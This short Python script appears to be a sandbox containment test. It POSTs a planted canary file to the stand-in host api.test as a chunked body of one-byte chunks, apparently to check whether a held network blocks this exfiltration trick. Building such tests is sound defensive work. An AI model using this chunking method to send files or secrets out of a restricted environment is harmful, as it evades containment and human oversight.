# Sends a planted file in a body of chunks, of one byte each.
# network: held
from prelude import TOLD, canary, get, say

chunks = b"".join(b"1\r\n%c\r\n" % byte for byte in canary(whole=True)) + b"0\r\n\r\n"
print(say(get(f"http://api.test:{TOLD['WEB']}/", "Transfer-Encoding: chunked", method="POST") + chunks)[:100])
print("tried")
